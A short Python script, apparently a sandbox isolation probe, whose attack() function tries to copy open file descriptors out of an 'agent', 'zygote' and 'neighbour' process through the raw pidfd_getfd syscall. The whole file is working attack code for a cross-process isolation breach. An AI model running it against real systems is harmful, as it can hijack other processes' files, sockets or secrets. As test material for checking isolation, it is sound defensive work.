import ctypes
import os

from target import AGENT, NEIGHBOUR, ZYGOTE


def attack():
    for pid in (AGENT, ZYGOTE, NEIGHBOUR):
        try:
            fd = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(3, 20):
            if ctypes.CDLL(None).syscall(438, fd, number, 0) >= 0:
                return pid, number
    raise PermissionError("nobody's")
